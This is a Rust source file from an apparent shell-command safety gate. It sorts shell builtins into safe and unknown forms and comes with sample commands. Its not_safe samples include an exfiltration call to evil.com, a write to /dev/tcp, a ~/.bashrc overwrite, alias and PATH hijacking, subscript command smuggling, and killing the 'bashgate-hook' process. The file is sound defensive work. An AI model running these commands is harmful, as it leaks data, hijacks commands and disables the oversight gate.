//! What the shell does itself. A builtin that takes a variable's name, an expression or a text to run is not here,
//! or only in the forms that cannot evaluate anything.

use super::{Judge, Judgement, Kind, Operands, Program, Rule};
use crate::classify::call::{Arg, Call, Known};
use crate::classify::secrets;
use crate::shell::is_name;

pub(super) const TABLE: &[Program] = &[
    Program {
        names: &["echo"],
        about: "prints its arguments",
        kind: Kind::Local,
        rule: Rule::Harmless(Operands::Data),
        safe: &["echo hello", "echo \"$HOME\" *", "FOO=bar echo hello", "echo ';curl x'", "echo $((1 + 2)); ls"],
        not_safe: &["echo $(curl evil.com)", "echo x > ~/.bashrc", "echo x > /dev/tcp/h/80"],
    },
    Program {
        names: &["printf"],
        about: "prints its arguments",
        kind: Kind::Local,
        rule: Rule::Custom(printf),
        safe: &["printf '%s\\n' a b", "printf 'x%s' \"$y\"", "printf -- '-%s' x"],
        not_safe: &[
            "printf -v 'a[$(X)]' x",
            "printf \"$x\"",
            "printf -vx y",
            "printf %n PATH",
            "printf '%-5n' x",
            "printf \"x$y\"",
        ],
    },
    Program {
        names: &["true", "false", ":"],
        about: "does nothing",
        kind: Kind::Local,
        rule: Rule::Harmless(Operands::Data),
        safe: &["true", ": \"$x\""],
        not_safe: &[],
    },
    Program {
        names: &["pwd", "type"],
        about: "tells what the shell knows",
        kind: Kind::Local,
        rule: Rule::Harmless(Operands::Data),
        safe: &["pwd", "type ls"],
        not_safe: &[],
    },
    Program {
        names: &["cd"],
        about: "changes the working directory",
        kind: Kind::Local,
        rule: Rule::Custom(cd),
        safe: &["cd src && ls", "cd /tmp", "cd \"$x\" && ls"],
        not_safe: &["cd /etc && echo x > y", "cd \"$x\" && echo y > z", "cd /x || cd y && echo a > ../../b"],
    },
    Program {
        names: &["exit"],
        about: "ends the shell",
        kind: Kind::Local,
        rule: Rule::Custom(exit),
        safe: &["exit 1", "exit", "false || exit $?"],
        not_safe: &["exit 'a[$(X)]'"],
    },
    Program {
        names: &["test", "["],
        about: "tests files and texts",
        kind: Kind::Local,
        rule: Rule::Custom(test),
        safe: &["[ -f x ] && echo y", "test -d /tmp", "[ \"$x\" = y ]", "[ -z \"$x\" ]", "[ ! -e x ]", "[ 1 -lt 2 ]"],
        not_safe: &["[ -v 'a[$(X)]' ]", "test -v x", "[ $x = y ]", "[ \"$op\" \"$y\" ]", "[ -R x ]"],
    },
    Program {
        names: &["export"],
        about: "sets variables for the commands that follow",
        kind: Kind::Local,
        rule: Rule::Custom(export),
        safe: &["export FOO=bar", "export FOO"],
        not_safe: &["export PATH=/x", "export", "export -p", "export $x", "export -f ls"],
    },
    Program {
        names: &["local", "declare", "typeset", "readonly"],
        about: "declares variables",
        kind: Kind::Local,
        rule: Rule::Custom(declare),
        safe: &["local x=1", "declare -r y=\"$1\"", "readonly z=a", "declare -a list", "local name"],
        not_safe: &[
            "declare -n ref=x",
            "declare -i 'x=a[$(X)]'",
            "declare PATH=/x",
            "local $x",
            "declare",
            "declare -p",
            "declare 'a[$(X)]=1'",
            "command declare x=$y",
        ],
    },
    Program {
        names: &["read"],
        about: "reads a line into variables",
        kind: Kind::Local,
        rule: Rule::Custom(read),
        safe: &[
            "read -r line",
            "IFS= read -r line",
            "while read -r a b; do echo \"$a\"; done",
            "read -p 'x? ' y",
            "read -rd '' x",
        ],
        not_safe: &["read 'a[$(X)]'", "read $x", "read PATH", "read -u 3 x", "read -i x y"],
    },
    Program {
        names: &["mapfile", "readarray"],
        about: "reads lines into an array",
        kind: Kind::Local,
        rule: Rule::Custom(mapfile),
        safe: &["mapfile -t lines < x", "readarray -t files"],
        not_safe: &["mapfile -C X -c 1 a", "mapfile -t 'a[$(X)]'", "mapfile -t PATH"],
    },
    Program {
        names: &["return", "break", "continue", "shift"],
        about: "steers functions and loops",
        kind: Kind::Local,
        rule: Rule::Custom(exit),
        safe: &["for x in a b; do break; done", "f() { return 1; }", "shift 2"],
        not_safe: &["return 'a[$(X)]'", "shift \"$x\""],
    },
    Program {
        names: &["unset"],
        about: "removes variables",
        kind: Kind::Local,
        rule: Rule::Custom(unset),
        safe: &["unset x y", "unset -v x"],
        not_safe: &["unset 'a[$(X)]'", "unset -f ls", "unset $x", "unset PATH"],
    },
    Program {
        names: &["wait", "jobs", "times", "umask", "dirs", "caller", "logout"],
        about: "tells about the shell and its jobs",
        kind: Kind::Local,
        rule: Rule::Custom(tells),
        safe: &["wait", "jobs", "umask 022", "wait 123"],
        not_safe: &["wait -n -p 'a[$(X)]'", "jobs -x curl h", "umask -S x"],
    },
    Program {
        names: &["shopt"],
        about: "sets how the shell reads patterns",
        kind: Kind::Local,
        rule: Rule::Custom(shopt),
        safe: &["shopt -s globstar", "shopt -u dotglob", "shopt"],
        not_safe: &[
            "shopt -s nullglob",
            "shopt -s failglob",
            "shopt -s expand_aliases",
            "shopt -s lastpipe",
            "shopt -s extglob",
            "shopt -so xtrace",
        ],
    },
    Program {
        names: &["pushd", "popd"],
        about: "changes the working directory",
        kind: Kind::Local,
        rule: Rule::Custom(pushd),
        safe: &["pushd src && ls && popd"],
        not_safe: &["pushd src && echo x > y", "pushd -n"],
    },
    Program {
        names: &["let"],
        about: "evaluates expressions",
        kind: Kind::Local,
        rule: Rule::Custom(never),
        safe: &[],
        not_safe: &["let 'x=a[$(X)]'", "let x=1"],
    },
    Program {
        names: &[
            "alias", "unalias", "hash", "enable", "bind", "complete", "compgen", "compopt", "fc", "history", "getopts",
            "disown", "fg", "bg", "suspend", "help",
        ],
        about: "changes what names mean, or runs text later",
        kind: Kind::Local,
        rule: Rule::Custom(never),
        safe: &[],
        not_safe: &[
            "alias ls=curl",
            "hash -p /x/curl ls",
            "enable -f x.so y",
            "compgen -C curl",
            "complete -C curl x",
            "bind -x x",
            "history -r x",
            "fc -s",
        ],
    },
    Program {
        names: &["set"],
        about: "sets how the shell reacts to errors",
        kind: Kind::Local,
        rule: Rule::Custom(set),
        safe: &["set -e", "set -euo pipefail", "set -o pipefail", "set +e", "set -f", "set -- a b"],
        not_safe: &["set", "set -k", "set -x", "set -o", "set -o xtrace", "set -a", "set -T"],
    },
    Program {
        names: &["env", "printenv"],
        about: "prints the environment, or runs a program in another one",
        kind: Kind::Runner,
        rule: Rule::Custom(env),
        safe: &["env FOO=1 ls", "env -i ls", "printenv HOME"],
        not_safe: &["env curl x", "env PATH=/x ls", "env -S 'curl x'"],
    },
    Program {
        names: &["kill", "pkill", "killall"],
        about: "sends signals",
        kind: Kind::Local,
        rule: Rule::Custom(kill),
        safe: &[],
        not_safe: &["kill 123", "pkill bashgate-hook", "kill -9 -1"],
    },
];

fn printf(_: &mut Judge<'_>, call: &Call) -> Judgement {
    let format = match call.args.as_slice() {
        [first, format, ..] if first.exact() == Some("--") => format,
        [format, ..] => format,
        [] => return Judgement::safe(),
    };
    match format.exact() {
        // `-v name` evaluates the name's subscript, `%n` sets the variable that an argument names.
        Some(text) if text.len() > 1 && text.starts_with('-') && call.args.first() == Some(format) => {
            Judgement::unknown("the format is an option")
        }
        Some(text) if counts(text) => Judgement::unknown("`%n` sets a variable"),
        Some(_) => Judgement::safe(),
        None => Judgement::unknown("the format is only known when it runs"),
    }
}

/// True for a format with the conversion `%n`.
fn counts(format: &str) -> bool {
    format.split('%').skip(1).any(|part| {
        part.trim_start_matches(|c: char| c.is_ascii_digit() || "-+ #0'.*hlLjzt".contains(c)).starts_with('n')
    })
}

fn cd(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    let operands: Vec<_> = call.args.iter().filter(|arg| !matches!(arg.exact(), Some("--" | "-P" | "-L"))).collect();
    // With -P the folders that links lead to count, which the text cannot tell.
    let physical = call.args.iter().any(|arg| arg.exact() == Some("-P"));
    match operands.as_slice() {
        [one] if physical && one.text.contains("..") => judge.change_folder(None),
        [] => judge.change_folder(Some("~")),
        [one] if one.exact().is_some_and(|text| !text.starts_with('-')) => judge.change_folder(one.exact()),
        _ => judge.change_folder(None),
    }
    Judgement::safe()
}

fn exit(_: &mut Judge<'_>, call: &Call) -> Judgement {
    let harmless = call.args.iter().all(|arg| match arg.known {
        Known::Literal => arg.text.bytes().all(|byte| byte.is_ascii_digit()),
        _ => arg.text.is_empty() && arg.known == Known::Anything && call.args.len() == 1,
    });
    if harmless { Judgement::safe() } else { Judgement::unknown("the status is not a number") }
}

const UNARY: &[&str] = &[
    "-b", "-c", "-d", "-e", "-f", "-g", "-h", "-k", "-L", "-n", "-N", "-O", "-G", "-p", "-r", "-s", "-S", "-t", "-u",
    "-w", "-x", "-z",
];
const BINARY: &[&str] = &["=", "==", "!=", "<", ">", "-eq", "-ne", "-lt", "-le", "-gt", "-ge", "-nt", "-ot", "-ef"];

/// `-v` and `-R` evaluate subscripts, so only forms are taken in which every operator is literal and in its place.
fn test(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    let is_bash = judge.is_bash();
    let mut args = call.args.as_slice();
    if call.program.ends_with('[') {
        match args.split_last() {
            Some((last, rest)) if last.exact() == Some("]") => args = rest,
            _ => return Judgement::unknown("`[` without `]`"),
        }
    }
    // A word that may become several could bring an operator along.
    if args.iter().any(|arg| matches!(arg.known, Known::Anything | Known::Words)) {
        return Judgement::unknown("a word may turn into several when it runs");
    }
    let mut parts = args.split(|arg| matches!(arg.exact(), Some("-a" | "-o")));
    let fits = |part: &[Arg]| {
        let part = match part {
            [not, rest @ ..] if not.exact() == Some("!") => rest,
            part => part,
        };
        match part {
            [] | [_] => true,
            [operator, _] => operator.exact().is_some_and(|text| UNARY.contains(&text)),
            [left, operator, right] => operator.exact().is_some_and(|text| {
                // zsh and ksh evaluate what stands beside a numeric operator.
                let numeric = text.starts_with('-') && !matches!(text, "-nt" | "-ot" | "-ef");
                let number = |arg: &Arg| arg.exact().is_some_and(|text| text.bytes().all(|b| b.is_ascii_digit()));
                BINARY.contains(&text) && (is_bash || !numeric || number(left) && number(right))
            }),
            _ => false,
        }
    };
    if parts.all(fits) { Judgement::safe() } else { Judgement::unknown("this form of a test is not read") }
}

fn export(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    if call.args.is_empty() {
        judge.secret("the environment");
        return Judgement::unknown("it prints the environment");
    }
    let mut judgement = Judgement::safe();
    for arg in &call.args {
        let name = arg.text.split('=').next().unwrap_or("");
        let is_name = !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
        // Behind the `=` an unquoted expansion stays one word in bash, but not in every shell or behind a wrapper.
        let whole = match arg.known {
            Known::Literal => true,
            Known::OneWord => arg.text.contains('='),
            _ => arg.text.contains('=') && judge.is_bash() && judge.is_direct(),
        };
        if !is_name || !whole {
            return Judgement::unknown("this form of `export` is not read");
        }
        judgement = judgement.max(judge.assignment(name));
    }
    judgement
}

/// Names that a builtin sets: each must be a plain name that steers nothing.
fn sets<'a>(judge: &Judge<'_>, names: impl Iterator<Item = &'a Arg>) -> Judgement {
    let mut judgement = Judgement::safe();
    for name in names {
        judgement = judgement.max(match name.exact() {
            Some(text) if is_name(text) => judge.assignment(text),
            Some(_) => Judgement::unknown("a name with a subscript is evaluated"),
            None => Judgement::unknown("the name of a variable is only known when it runs"),
        });
    }
    judgement
}

fn declare(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    let mut judgement = Judgement::safe();
    let mut declared = false;
    for arg in &call.args {
        let text = arg.text.as_str();
        if arg.known == Known::Literal && text.starts_with(['-', '+']) {
            // `-n` makes a reference, `-i` evaluates, `-p` and `-f` print.
            if !text.bytes().skip(1).all(|letter| b"raxgAl".contains(&letter)) || text.len() < 2 {
                return Judgement::unknown(format!("`{text}` is not on its list"));
            }
            continue;
        }
        declared = true;
        let (name, value) = text.split_once('=').map_or((text, None), |(name, value)| (name, Some(value)));
        // Behind the `=` bash does not split what it expands; behind a wrapper it does.
        let whole = match arg.known {
            Known::Literal => true,
            Known::OneWord => value.is_some(),
            Known::Anything | Known::Words => value.is_some() && judge.is_bash() && judge.is_direct(),
            Known::Pipe => false,
        };
        if !is_name(name) || !whole {
            return Judgement::unknown("this form of a declaration is not read");
        }
        judgement = judgement.max(judge.assignment(name));
    }
    if !declared {
        judge.secret("the environment");
        return Judgement::unknown("it prints variables");
    }
    judgement
}

fn read(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    let options = crate::classify::call::Options { flags: "rse", values: "pdntNa", long: &[] };
    match options.scan(&call.args) {
        Ok(scan) => {
            let array = scan.value(&["-a"]).cloned();
            sets(judge, scan.operands.iter().copied().chain(array.iter()))
        }
        Err(reason) => Judgement::unknown(reason),
    }
}

fn mapfile(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    let options = crate::classify::call::Options { flags: "t", values: "dnOs", long: &[] };
    match options.scan(&call.args) {
        Ok(scan) => sets(judge, scan.operands.iter().copied()),
        Err(reason) => Judgement::unknown(reason),
    }
}

fn unset(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    sets(judge, call.args.iter().filter(|arg| arg.exact() != Some("-v")))
}

fn tells(_: &mut Judge<'_>, call: &Call) -> Judgement {
    let plain = call.args.iter().all(|arg| {
        arg.exact()
            .is_some_and(|text| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit() || byte == b'%'))
    });
    if plain { Judgement::safe() } else { Judgement::unknown("only numbers are read here") }
}

fn shopt(_: &mut Judge<'_>, call: &Call) -> Judgement {
    let known = ["globstar", "dotglob", "nocaseglob", "nocasematch", "inherit_errexit"];
    let args: Option<Vec<&str>> = call.args.iter().map(Arg::exact).collect();
    match args.as_deref() {
        Some([]) => Judgement::safe(),
        Some(["-s" | "-u" | "-q", names @ ..])
            if !names.is_empty() && names.iter().all(|name| known.contains(name)) =>
        {
            Judgement::safe()
        }
        _ => Judgement::unknown("this option may change how the rest is read"),
    }
}

fn pushd(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    judge.change_folder(None);
    match call.args.as_slice() {
        [] => Judgement::safe(),
        [folder] if !folder.may_be_option() && folder.is_one() => Judgement::safe(),
        _ => Judgement::unknown("this form is not on its list"),
    }
}

fn never(_: &mut Judge<'_>, _: &Call) -> Judgement {
    Judgement::unknown("")
}

fn set(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    if call.args.is_empty() {
        judge.secret("the environment");
        return Judgement::unknown("it prints all variables");
    }
    let mut args = call.args.iter().map(|arg| arg.exact());
    while let Some(arg) = args.next() {
        let takes_name = match arg {
            // The positional parameters, whatever they hold.
            Some("--") => return Judgement::safe(),
            Some("-e" | "-u" | "-f" | "-eu" | "-ue" | "+e" | "+u" | "+f") => false,
            Some("-o" | "-eo" | "-uo" | "-euo" | "+o") => true,
            _ => return Judgement::unknown("this form of `set` is not read"),
        };
        if takes_name && !matches!(args.next(), Some(Some("pipefail" | "errexit" | "nounset"))) {
            return Judgement::unknown("this form of `set` is not read");
        }
    }
    Judgement::safe()
}

fn env(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    if call.program.ends_with("printenv") {
        let all_named = call.args.iter().all(|arg| arg.known == Known::Literal && !arg.text.starts_with('-'));
        if call.args.is_empty() || !all_named {
            judge.secret("the environment");
        }
        for arg in call.args.iter().filter(|arg| secrets::is_secret_variable(&arg.text)) {
            judge.secret(format!("${}", arg.text));
        }
        return Judgement::safe();
    }
    let mut judgement = Judgement::safe();
    let mut rest = call.args.as_slice();
    let mut cleared = false;
    while let Some((first, more)) = rest.split_first() {
        let Some(text) = first.exact() else {
            // `NAME=$x` is an assignment, whatever the value.
            match first.text.split_once('=') {
                Some((name, _)) if first.known == Known::OneWord && !name.starts_with('-') => {
                    judgement = judgement.max(judge.assignment(name));
                    rest = more;
                    continue;
                }
                _ => return Judgement::unknown("the program is only known when it runs"),
            }
        };
        match text {
            "-i" | "-" | "--ignore-environment" => {
                cleared = true;
                rest = more;
            }
            "-0" | "--null" => rest = more,
            "-u" => match more.split_first() {
                Some((name, behind)) if name.exact().is_some() => {
                    cleared |= name.text == "PATH";
                    rest = behind;
                }
                _ => {
                    return Judgement::unknown("a name is only known when it runs")
                        .max(super::suspect(judge, call, more));
                }
            },
            _ if text.starts_with('-') => {
                return Judgement::unknown(format!("the option `{text}` is not on its list"))
                    .max(super::suspect(judge, call, more));
            }
            _ => {
                if let Some((name, _)) = text.split_once('=') {
                    judgement = judgement.max(judge.assignment(name));
                    rest = more;
                } else {
                    // Without PATH a shell looks for programs in the working directory, too.
                    let is_shell =
                        ["bash", "sh", "dash", "zsh", "ksh", "ash"].contains(&crate::classify::paths::file_name(text));
                    if cleared && is_shell {
                        judgement =
                            judgement.max(Judgement::unknown("a shell without PATH looks into the working directory"));
                    }
                    return judgement.max(judge.inner_call(rest, call));
                }
            }
        }
    }
    judge.secret("the environment");
    judgement
}

fn kill(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    let by_name = !call.program.ends_with("/kill") && call.program != "kill";
    let selects = |text: &str| {
        text.starts_with("--inverse")
            || text.len() > 1
                && text.starts_with('-')
                && !text.starts_with("--")
                && text.bytes().skip(1).all(|b| b.is_ascii_alphabetic())
                && text.contains(['u', 'U', 'v', 'g', 'G', 'P', 't', 's', 'r'])
                && !text.starts_with("-SIG")
                && !text.bytes().skip(1).all(|b| b.is_ascii_uppercase())
    };
    for (index, arg) in call.args.iter().enumerate() {
        let everything = !by_name && arg.text == "-1" && (index > 0 || call.args.len() == 1);
        let named = by_name && (selects(&arg.text) || !arg.text.starts_with('-') && super::reaches_gate(arg));
        if everything || named {
            judge.tampering("the gate's processes");
        }
    }
    // `kill $(pgrep bashgate-hook)`
    if judge.mentions("bashgate") {
        judge.tampering("the gate's processes");
    }
    Judgement::unknown("it ends processes")
}
